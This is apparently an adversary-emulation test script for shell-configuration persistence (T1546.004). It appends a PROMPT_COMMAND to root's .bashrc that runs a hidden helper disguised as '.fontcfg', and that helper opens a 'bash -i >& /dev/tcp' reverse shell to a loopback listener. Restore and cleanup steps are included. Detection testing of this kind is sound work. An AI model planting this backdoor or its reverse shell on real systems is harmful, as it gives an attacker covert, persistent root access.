#!/bin/sh
# T1546.004 (quiet): PROMPT_COMMAND of root calls a hidden helper
M=/var/tmp/luytre-foothold N=10-bashrc-prompt
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
listen() { # a listener on loopback that notes who connects
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); s.settimeout(75)
c, _ = s.accept(); open(sys.argv[2], "w").write("connected"); c.sendall(b"exit\n")
END
  sleep 0.4; }
plant() {
  keep /root/.bashrc
  x /root/.cache/.fontcfg <<'E'
#!/bin/bash
( bash -i >& /dev/tcp/127.0.0.1/47010 0>&1 ) 2>/dev/null &
E
  printf '\nPROMPT_COMMAND="history -a; ~/.cache/.fontcfg"\n' >>/root/.bashrc
}
prove() {
  rm -f "$M/$N"
  listen 47010
  HOME=/root HISTFILE=/dev/null bash -c 'echo exit | script -qc "bash -i" /dev/null' >/dev/null 2>&1
  seen
}
remove() {
  back /root/.bashrc; rm -f /root/.cache/.fontcfg
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
